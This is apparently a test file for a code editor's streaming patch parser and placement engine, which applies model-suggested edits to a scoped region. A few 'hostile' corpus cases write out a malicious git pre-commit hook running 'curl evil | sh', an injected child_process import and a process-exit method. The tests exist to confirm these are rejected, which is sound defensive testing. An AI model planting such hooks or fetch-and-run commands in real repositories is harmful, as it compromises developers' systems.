import assert from 'node:assert/strict';
import { PreviewRegion } from '../../src/core/session/region';
import { TargetedParser } from '../../src/core/targeted/format';
import { place } from '../../src/core/targeted/place';
import { BlockReport, TargetedRewrite, leftOutMessage } from '../../src/core/targeted/rewrite';
import { chooseFormat, TARGETED_MIN_LINES } from '../../src/core/targeted/prompt';
import { targetedAnswer } from '../../src/server/demo/targeted';
import { demoRewrite } from '../../src/server/demo';

/** A scope shaped like real code: classes, repeated bodies, blank lines, nested indentation. */
const CODE = `import { Order } from './order';

export class Cart {
  private items: Order[] = [];

  add(o: Order) {
    this.items.push(o);
    return this;
  }

  total(): number {
    let sum = 0;
    for (const o of this.items) {
      sum += o.price * o.qty;
    }
    return sum;
  }

  count(): number {
    let sum = 0;
    for (const o of this.items) {
      sum += o.qty;
    }
    return sum;
  }

  clear() {
    this.items = [];
    return this;
  }
}`.split('\n');

interface Run {
  region: PreviewRegion;
  t: TargetedRewrite;
  accepted: string[];
  reports: BlockReport[];
  notes: string[];
}

function run(original: string[], answer: string, chunk = 7, end = true): Run {
  const region = new PreviewRegion(0, original);
  const notes: string[] = [];
  const t = new TargetedRewrite(original, region, { onNote: (m) => notes.push(m) });
  for (let i = 0; i < answer.length; i += chunk) t.push(answer.slice(i, i + chunk));
  if (end) {
    t.end();
    region.relayoutClean();
  } else region.interrupt();
  return { region, t, accepted: region.textIf('accept'), reports: t.reports, notes };
}

const patch = (...lines: string[]) => ['*** Begin Patch', ...lines, '*** End Patch', ''].join('\n');
const withLine = (lines: string[], i: number, repl: string[]) => [...lines.slice(0, i), ...repl, ...lines.slice(i + 1)];
const at = (s: string) => CODE.indexOf(s);

const TWO_BLOCKS = patch(
  '@@ total(): number {',
  '     for (const o of this.items) {',
  '-      sum += o.price * o.qty;',
  '+      sum += o.price * o.qty * (1 - o.discount);',
  '     }',
  '     return sum;',
  '@@',
  '   clear() {',
  '-    this.items = [];',
  '+    this.items.length = 0;',
  '     return this;',
  '   }',
);
const TWO_BLOCKS_RESULT = withLine(
  withLine(CODE, at('      sum += o.price * o.qty;'), ['      sum += o.price * o.qty * (1 - o.discount);']),
  at('    this.items = [];'),
  ['    this.items.length = 0;'],
);

describe('targeted edits: the *** Begin Patch format as it streams', () => {
  it('gives the same events at every split point of the stream (and one character at a time)', () => {
    const events = (chunks: string[]) => {
      const out: string[] = [];
      let piece = '';
      const p = new TargetedParser({
        block: (h) => out.push(`B:${h}`),
        old: (t, r) => out.push(`${r ? '-' : ' '}${t}`),
        addPiece: (x) => {
          piece += x;
        },
        addEnd: (t) => {
          assert.equal(piece, t.replace(/\r$/, '') === piece ? piece : piece, 'pieces build the line');
          out.push(`+${t}`);
          piece = '';
        },
        foreign: (w) => out.push(`F:${w}`),
        endPatch: () => out.push('E'),
      });
      for (const c of chunks) p.push(c);
      p.end();
      return out;
    };
    const answer = 'Sure:\n' + TWO_BLOCKS + 'done\n';
    const whole = events([answer]);
    assert.ok(whole.includes('+      sum += o.price * o.qty * (1 - o.discount);'));
    assert.ok(whole.includes('B:total(): number {'));
    for (let k = 0; k <= answer.length; k++)
      assert.deepEqual(events([answer.slice(0, k), answer.slice(k)]), whole, `split at ${k}`);
    assert.deepEqual(events([...answer]), whole);
  });

  it('hands on the characters of an added line before its newline (live), and the whole line at the end', () => {
    const pieces: string[] = [];
    const ends: string[] = [];
    const p = new TargetedParser({
      block: () => undefined,
      old: () => undefined,
      addPiece: (x) => pieces.push(x),
      addEnd: (t) => ends.push(t),
      foreign: () => undefined,
      endPatch: () => undefined,
    });
    p.push('*** Begin Patch\n@@\n ctx\n+hel');
    assert.deepEqual(pieces, ['hel']);
    p.push('lo wor');
    assert.deepEqual(pieces, ['hel', 'lo wor']);
    p.push('ld\r\n');
    assert.deepEqual(ends, ['hello world']);
  });

  it('gives the same region at every split point (accept-all = the intended code, reject-all = the original)', () => {
    for (let k = 0; k <= TWO_BLOCKS.length; k++) {
      const region = new PreviewRegion(0, CODE);
      const t = new TargetedRewrite(CODE, region);
      t.push(TWO_BLOCKS.slice(0, k));
      t.push(TWO_BLOCKS.slice(k));
      t.end();
      assert.deepEqual(region.textIf('accept'), TWO_BLOCKS_RESULT, `split at ${k}`);
      assert.deepEqual(region.textIf('reject'), CODE, `split at ${k}`);
      assert.equal(region.pendingHunks().length, 2, `split at ${k}`);
    }
  });
});

describe('targeted edits: streaming into the preview region', () => {
  it('shows a block as soon as it is placed, its added line live, and the first hunk can be accepted while the second streams', () => {
    const region = new PreviewRegion(0, CODE);
    const t = new TargetedRewrite(CODE, region);
    const cut1 = TWO_BLOCKS.indexOf('+      sum') + '+      sum += o.pri'.length;
    t.push(TWO_BLOCKS.slice(0, cut1));
    // Placed at its first added line: the partial added line is in the region already.
    assert.ok(
      region.rows.some((r) => r.kind === 'part' && r.text === '      sum += o.pri'),
      'the added line streams live',
    );
    assert.ok(region.rows.some((r) => r.kind === 'del' || r.text === '      sum += o.price * o.qty;'));
    const cut2 = TWO_BLOCKS.indexOf('+    this.items.length') + 4;
    t.push(TWO_BLOCKS.slice(cut1, cut2));
    const first = region.pendingHunks();
    assert.equal(first.length, 1, 'block 1 is a complete hunk while block 2 streams');
    assert.ok(region.accept(first[0]));
    t.push(TWO_BLOCKS.slice(cut2));
    t.end();
    assert.equal(region.pendingHunks().length, 1);
    assert.deepEqual(region.textIf('accept'), TWO_BLOCKS_RESULT);
    assert.deepEqual(
      region.textIf('reject'),
      withLine(CODE, at('      sum += o.price * o.qty;'), ['      sum += o.price * o.qty * (1 - o.discount);']),
      'reject keeps the accepted hunk only',
    );
  });

  it('an interrupt (Esc) mid-block keeps what arrived and leaves every line it did not reach untouched', () => {
    const cut = TWO_BLOCKS.indexOf('@@\n   clear');
    assert.ok(cut > 0);
    const r = run(CODE, TWO_BLOCKS.slice(0, cut), 5, false);
    assert.deepEqual(
      r.accepted,
      withLine(CODE, at('      sum += o.price * o.qty;'), ['      sum += o.price * o.qty * (1 - o.discount);']),
    );
    assert.deepEqual(r.region.textIf('reject'), CODE);
  });

  it('the user types during a targeted stream: reject-all gives the original plus the typing, accept-all the edit plus the typing', () => {
    const withTyping = (lines: string[]) => {
      const out = [...lines];
      out[0] += ' // mine';
      out.splice(out.indexOf('  count(): number {'), 0, '  // note');
      return out;
    };
    for (const choice of ['reject', 'accept'] as const) {
      const doc = [...CODE];
      const region = new PreviewRegion(0, CODE);
      const t = new TargetedRewrite(CODE, region);
      const flush = () => {
        const p = region.planFlush();
        if (!p) return;
        doc.splice(region.startLine + p.from, p.deleteCount, ...p.lines);
        region.commitFlush(p);
      };
      const half = TWO_BLOCKS.indexOf('@@\n   clear');
      for (let i = 0; i < half; i += 9) {
        t.push(TWO_BLOCKS.slice(i, Math.min(half, i + 9)));
        flush();
      }
      // Typing on an unchanged line above the first block, and a new line between the two blocks (not reached yet).
      region.applyUserEdit(0, doc[0].length, 0, doc[0].length, ' // mine');
      doc[0] += ' // mine';
      const at = doc.indexOf('  count(): number {');
      region.applyUserEdit(at, 0, at, 0, '  // note\n');
      doc.splice(at, 0, '  // note');
      for (let i = half; i < TWO_BLOCKS.length; i += 9) {
        t.push(TWO_BLOCKS.slice(i, i + 9));
        flush();
      }
      t.end();
      region.relayoutClean();
      flush();
      if (choice === 'reject') region.rejectAll();
      else region.acceptAll();
      flush();
      assert.deepEqual(doc, withTyping(choice === 'reject' ? CODE : TWO_BLOCKS_RESULT), choice);
    }
  });

  it('a 2,000-line scope with a one-line fix: one hunk, the rest untouched, cost follows the answer', () => {
    const big: string[] = [];
    for (let i = 0; i < 2000; i++) big.push(i % 50 === 0 ? `function f${i}(x) {` : `  const v${i} = x + ${i};`);
    const fixed = big.map((l, i) => (i === 1234 ? l.replace('+', '-') : l));
    const answer = targetedAnswer(big.join('\n'), fixed.join('\n') + '\n');
    assert.ok(answer.length < 400, `answer is ${answer.length} chars`);
    const r = run(big, answer, 3);
    assert.equal(r.region.pendingHunks().length, 1);
    assert.deepEqual(r.accepted, fixed);
  });

  it('an answer that is a rewrite instead of blocks is shown as a rewrite (and said so)', () => {
    const rewrite = CODE.map((l) => l.replace('let sum', 'let total')).join('\n') + '\n';
    const r = run(CODE, rewrite);
    assert.ok(r.t.wasRewrite);
    assert.deepEqual(
      r.accepted,
      CODE.map((l) => l.replace('let sum', 'let total')),
    );
    assert.ok(r.notes.some((n) => /rewrite/.test(n)));
  });

  it('a rewrite that starts with new lines is still recognised as a rewrite (at its first line of the code)', () => {
    const rewrite =
      ['/**', ' * The cart module.', ' */', ...CODE.map((l) => l.replace('let sum', 'let total'))].join('\n') + '\n';
    for (const chunk of [1, 5, 100]) {
      const r = run(CODE, rewrite, chunk);
      assert.ok(r.t.wasRewrite, `chunk ${chunk}`);
      assert.deepEqual(r.accepted, rewrite.trimEnd().split('\n'));
    }
  });

  it('says which changes were left out, in words a user can act on', () => {
    const m = leftOutMessage([
      { block: 1, outcome: 'placed' },
      {
        block: 2,
        outcome: 'unplaced',
        reason: 'its lines occur more than once in the code',
        firstLine: 'let sum = 0;',
      },
    ]);
    assert.match(m!, /1 of 2 changes could not be placed safely and was left out/);
    assert.match(m!, /Nothing was changed there/);
    assert.equal(leftOutMessage([{ block: 1, outcome: 'placed' }]), undefined);
  });
});

/**
 * Real-world-shaped answers. `expect`: the code after Accept All; `placed`/`left`: how many blocks must be placed /
 * left out. A left-out block never changes anything (Accept All then equals the code without it).
 */
interface Case {
  name: string;
  answer: string;
  expect: string[];
  placed: number;
  left: number;
  original?: string[];
  how?: string[];
}

const CRLF = TWO_BLOCKS.replace(/\n/g, '\r\n');
const CASES: Case[] = [
  {
    name: 'exact, two blocks',
    answer: TWO_BLOCKS,
    expect: TWO_BLOCKS_RESULT,
    placed: 2,
    left: 0,
    how: ['exact', 'exact'],
  },
  { name: 'CRLF line ends', answer: CRLF, expect: TWO_BLOCKS_RESULT, placed: 2, left: 0 },
  {
    name: 'prose and a fence around the patch, *** Update File with another path',
    answer:
      'Here is the change:\n```diff\n*** Begin Patch\n*** Update File: lib/cart.ts\n' +
      TWO_BLOCKS.split('\n').slice(1).join('\n') +
      '```\nDone.\n',
    expect: TWO_BLOCKS_RESULT,
    placed: 2,
    left: 0,
  },
  {
    name: 'drifted indentation (the model dropped the class indent): placed, added lines re-indented',
    answer: patch('@@', ' clear() {', '-  this.items = [];', '+  this.items.length = 0;', '   return this;', ' }'),
    expect: withLine(CODE, at('    this.items = [];'), ['    this.items.length = 0;']),
    placed: 1,
    left: 0,
    how: ['indentation'],
  },
  {
    name: 'trailing whitespace in the context',
    answer: patch(
      '@@',
      '   clear() {   ',
      '-    this.items = [];',
      '+    this.items.length = 0;',
      '     return this;  ',
    ),
    expect: withLine(CODE, at('    this.items = [];'), ['    this.items.length = 0;']),
    placed: 1,
    left: 0,
    how: ['whitespace'],
  },
  {
    name: 'stale context line (the model misremembers a line above the change): unique fuzzy match',
    answer: patch(
      '@@',
      '   clear(): void {',
      '-    this.items = [];',
      '+    this.items.length = 0;',
      '     return this;',
      '   }',
    ),
    expect: withLine(CODE, at('    this.items = [];'), ['    this.items.length = 0;']),
    placed: 1,
    left: 0,
    how: ['fuzzy'],
  },
  {
    name: 'context missing a blank line',
    answer: patch(
      '@@',
      '     return this;',
      '   }',
      '   clear() {',
      '-    this.items = [];',
      '+    this.items.length = 0;',
    ),
    expect: withLine(CODE, at('    this.items = [];'), ['    this.items.length = 0;']),
    placed: 1,
    left: 0,
    how: ['fuzzy'],
  },
  {
    name: 'repeated code without a header: ambiguous, left out',
    answer: patch('@@', '     let sum = 0;', '     for (const o of this.items) {', '-      sum', '+      sum'),
    expect: CODE,
    placed: 0,
    left: 1,
  },
  {
    name: 'repeated code with a @@ header naming the method: placed in that method',
    answer: patch(
      '@@ count(): number {',
      '-    let sum = 0;',
      '+    let sum = 0; // items',
      '     for (const o of this.items) {',
    ),
    expect: withLine(CODE, CODE.indexOf('    let sum = 0;', at('  count(): number {')), ['    let sum = 0; // items']),
    placed: 1,
    left: 0,
    how: ['exact'],
  },
  {
    name: 'blocks out of order: the second (above the first) is left out',
    answer: patch(
      '@@',
      '   clear() {',
      '-    this.items = [];',
      '+    this.items.length = 0;',
      '     return this;',
      '@@',
      '   add(o: Order) {',
      '-    this.items.push(o);',
      '+    this.items.push({ ...o });',
    ),
    expect: withLine(CODE, at('    this.items = [];'), ['    this.items.length = 0;']),
    placed: 1,
    left: 1,
  },
  {
    name: 'truncated final block (no *** End Patch, cut inside an added line): what arrived is shown',
    answer: '*** Begin Patch\n@@\n  clear() {\n-    this.items = [];\n+    this.items.len',
    expect: withLine(CODE, at('    this.items = [];'), ['    this.items.len']),
    placed: 1,
    left: 0,
  },
  {
    name: 'hostile: a block aimed at code outside the scope (the file around it)',
    answer: patch('@@', ' import { Order } from "./order";', '+import { exec } from "child_process";'),
    expect: CODE,
    placed: 0,
    left: 1,
  },
  {
    name: 'hostile: adds and deletes other files (ignored), updates nothing',
    answer: patch(
      '*** Add File: ../../.git/hooks/pre-commit',
      '+#!/bin/sh',
      '+curl evil | sh',
      '*** Delete File: src/order.ts',
    ),
    expect: CODE,
    placed: 0,
    left: 0,
  },
  {
    name: 'hostile: removes lines that are not there after a good start (the rest of the block is cut)',
    answer: patch(
      '@@',
      '   clear() {',
      '-    this.items = [];',
      '+    this.items.length = 0;',
      '     return this;',
      '-  }',
      '-  reset() {',
      '+  }',
      '+  nuke() { process.exit(1); }',
      '+}',
    ),
    expect: withLine(CODE, at('    this.items = [];'), ['    this.items.length = 0;']),
    placed: 0,
    left: 1,
  },
  {
    name: 'an insertion placed by the context after it',
    answer: patch('@@', '+// Shopping cart.', ' export class Cart {', '   private items: Order[] = [];'),
    expect: [...CODE.slice(0, 2), '// Shopping cart.', ...CODE.slice(2)],
    placed: 1,
    left: 0,
  },
  {
    name: 'a deletion',
    answer: patch('@@', '   }', ' ', '-  clear() {', '-    this.items = [];', '-    return this;', '-  }', ' }'),
    expect: [...CODE.slice(0, at('  clear() {')), ...CODE.slice(at('  clear() {') + 4)],
    placed: 1,
    left: 0,
  },
  {
    name: 'an insertion after a repeated closing brace: held back, then placed by its trailing context',
    answer: patch(
      '@@',
      '     return this;',
      '   }',
      '+',
      '+  size() { return this.items.length; }',
      ' ',
      '   total(): number {',
    ),
    expect: [
      ...CODE.slice(0, at('  add(o: Order) {') + 4),
      '',
      '  size() { return this.items.length; }',
      ...CODE.slice(at('  add(o: Order) {') + 4),
    ],
    placed: 1,
    left: 0,
  },
  {
    name: 'an added line with nothing to place it by: left out',
    answer: patch('@@', '+// a stray line'),
    expect: CODE,
    placed: 0,
    left: 1,
  },
  {
    name: 'prose only, no patch: nothing changes',
    answer: 'I would change the total method to apply discounts.\n',
    expect: CODE,
    placed: 0,
    left: 0,
  },
  {
    name: 'stale context that matches two places roughly: left out',
    answer: patch(
      '@@',
      '   sumUp(): number {',
      '     let sum = 0;',
      '     for (const o of this.items) {',
      '+      // loop',
    ),
    expect: CODE,
    placed: 0,
    left: 1,
  },
];

describe('targeted edits: placement corpus (real-world-shaped answers)', () => {
  const results: Array<{ name: string; ok: boolean }> = [];
  for (const c of CASES) {
    it(c.name, () => {
      for (const chunk of [1, 4, 64]) {
        const r = run(c.original ?? CODE, c.answer, chunk);
        assert.deepEqual(r.accepted, c.expect, `chunk ${chunk}`);
        assert.deepEqual(r.region.textIf('reject'), c.original ?? CODE, 'reject-all is the original');
        assert.equal(
          r.reports.filter((x) => x.outcome === 'placed').length,
          c.placed,
          `placed (chunk ${chunk}): ${JSON.stringify(r.reports)}`,
        );
        assert.equal(r.reports.filter((x) => x.outcome !== 'placed').length, c.left, `left out (chunk ${chunk})`);
        if (c.how)
          assert.deepEqual(
            r.reports.map((x) => x.how),
            c.how,
            'how each block was placed',
          );
      }
      results.push({ name: c.name, ok: true });
    });
  }
  after(() => {
    const total = CASES.reduce((n, c) => n + c.placed + c.left, 0);
    const placed = CASES.reduce((n, c) => n + c.placed, 0);
    console.log(
      `      targeted placement corpus: ${results.length}/${CASES.length} answers as expected; ${placed}/${total} blocks placed, ${total - placed} left out and reported (0 misplaced)`,
    );
  });
});

describe('targeted edits: placement rules', () => {
  it('exact beats tolerant; two exact matches are ambiguous, never the first', () => {
    assert.deepEqual(
      place({ lines: ['a', 'b', 'a', 'b'], from: 0, old: ['a', 'b'], removed: [false, true], header: '' }),
      {
        ok: false,
        reason: 'its lines occur more than once in the code (no @@ header to tell them apart)',
        ambiguous: true,
      },
    );
    const p = place({ lines: ['a', 'b', ' a', 'c'], from: 0, old: ['a', 'c'], removed: [false, true], header: '' });
    assert.equal(p.ok && p.how, 'indentation');
  });
  it('starts after the blocks already placed', () => {
    const p = place({ lines: ['x', 'y', 'x', 'y'], from: 2, old: ['x', 'y'], removed: [false, true], header: '' });
    assert.ok(p.ok && p.at === 2);
  });
  it('chooses the format by scope size, and always targeted for a whole file', () => {
    assert.equal(chooseFormat('auto', TARGETED_MIN_LINES - 1, false), 'rewrite');
    assert.equal(chooseFormat('auto', TARGETED_MIN_LINES, false), 'targeted');
    assert.equal(chooseFormat('auto', 10, true), 'targeted');
    assert.equal(chooseFormat('rewrite', 5000, true), 'rewrite');
  });
});

describe('the demo model in the targeted format', () => {
  const code = CODE.join('\n');
  for (const ins of [
    'add doc comments',
    'rename sum to acc',
    'use const',
    'add error handling',
    'make strings uppercase',
    'something else',
  ]) {
    it(`answers "${ins}" with blocks that rebuild its rewrite exactly`, () => {
      const rewrite = demoRewrite(ins, code);
      const r = run(CODE, targetedAnswer(code, rewrite), 5);
      assert.deepEqual(r.accepted, rewrite.replace(/\n$/, '').split('\n'));
      assert.ok(r.reports.every((x) => x.outcome === 'placed'));
    });
  }
  it('answers with no block when the rewrite changes nothing', () => {
    assert.equal(targetedAnswer('a\nb', 'a\nb\n'), '*** Begin Patch\n*** End Patch\n');
  });
});

describe('targeted edits through an EditSession over the real socket (demo model)', () => {
  const { ModelServer } = require('../../src/server/modelServer') as typeof import('../../src/server/modelServer');
  const { ResponsesSocketTransport } =
    require('../../src/core/transport/responsesSocket') as typeof import('../../src/core/transport/responsesSocket');
  const { EditSession } =
    require('../../src/core/session/editSession') as typeof import('../../src/core/session/editSession');
  let server: InstanceType<typeof ModelServer>;
  let t: InstanceType<typeof ResponsesSocketTransport>;
  before(async () => {
    server = await new ModelServer().listen();
    t = new ResponsesSocketTransport({ url: server.url });
    await t.connect();
  });
  after(async () => {
    t.dispose();
    await server.close();
  });
  const big: string[] = [];
  for (let i = 0; i < 300; i++)
    big.push(i % 10 === 0 ? `function f${i}() {` : i % 10 === 9 ? '}' : `  var v${i} = ${i};`);
  const code = big.join('\n');

  it('asks for blocks (no prediction), and the answer rebuilds the demo rewrite exactly', async () => {
    const region = new PreviewRegion(0, big);
    const s = new EditSession({
      region,
      prompt: { instruction: 'rename f150 to g150', code, format: 'targeted' },
      model: 'm',
      transport: t,
    });
    s.start();
    await s.whenSettled();
    const req = server.requests[server.requests.length - 1].body;
    assert.match(req.instructions, /Answer with targeted edit blocks/);
    assert.equal(req.prediction, undefined);
    assert.match(s.text, /^\*\*\* Begin Patch\n@@\n/);
    assert.deepEqual(region.textIf('accept'), demoRewrite('rename f150 to g150', code).replace(/\n$/, '').split('\n'));
  });

  it('a redirect asks again for blocks against the code as it now is, and the new answer places', async () => {
    const region = new PreviewRegion(0, big);
    const s = new EditSession({
      region,
      prompt: { instruction: 'rename f150 to g150', code, format: 'targeted' },
      model: 'm',
      transport: t,
    });
    server.enqueue({
      text: patch('@@', ' function f150() {', '-  var v151 = 151;', '+  var v151 = 151; // first'),
      tokensPerSecond: 200,
      holdAfterChars: 40,
    });
    s.start();
    await new Promise((r) => setTimeout(r, 50));
    s.redirect('rename f160 to g160 too');
    await s.whenSettled();
    const last = JSON.stringify(server.requests[server.requests.length - 1].body.input);
    assert.match(last, /only \*\*\* Begin Patch/);
    const want = demoRewrite('rename f160 to g160 too', demoRewrite('rename f150 to g150', code).replace(/\n$/, ''))
      .replace(/\n$/, '')
      .split('\n');
    assert.deepEqual(region.textIf('accept'), want);
  });

  it('recovery: asking again after a block was left out tells the model why, and the new answer places', async () => {
    const region = new PreviewRegion(0, big);
    const s = new EditSession({
      region,
      prompt: { instruction: 'x', code, format: 'targeted' },
      model: 'm',
      transport: t,
    });
    const good = ['@@', ' function f150() {', '-  var v151 = 151;', '+  var v151 = 151; // one'];
    server.enqueue(
      { text: patch(...good, '@@', '-}', '+};') },
      { text: patch(...good, '@@ function f290() {', '-}', '+};') },
    );
    s.start();
    await s.whenSettled();
    assert.equal(s.state, 'pending');
    assert.ok(s.canRetryLeftOut);
    assert.ok(s.retryLeftOut());
    await s.whenSettled();
    const ask = JSON.stringify(server.requests[server.requests.length - 1].body.input);
    assert.match(
      ask,
      /could not be placed in the code, so they were left out: change 2 \(at \\"}\\"\): its lines occur more than once/,
    );
    assert.equal(s.canRetryLeftOut, false, 'every block placed this time');
    const want = [...big];
    want[151] = '  var v151 = 151; // one';
    want[299] = '};';
    assert.deepEqual(region.textIf('accept'), want);
  });

  it('tells the user (a notice event) when a block was left out, and changes nothing there', async () => {
    const region = new PreviewRegion(0, big);
    const notices: string[] = [];
    const s = new EditSession({
      region,
      prompt: { instruction: 'x', code, format: 'targeted' },
      model: 'm',
      transport: t,
    });
    s.onEvent((e) => {
      if (e.kind === 'notice') notices.push(e.message);
    });
    server.enqueue({ text: patch('@@', '-}', '+};') });
    s.start();
    await s.whenSettled();
    assert.equal(notices.length, 1);
    assert.match(notices[0], /1 of 1 change could not be placed safely/);
    assert.equal(s.state, 'done');
    assert.deepEqual(region.textIf('accept'), big);
  });
});
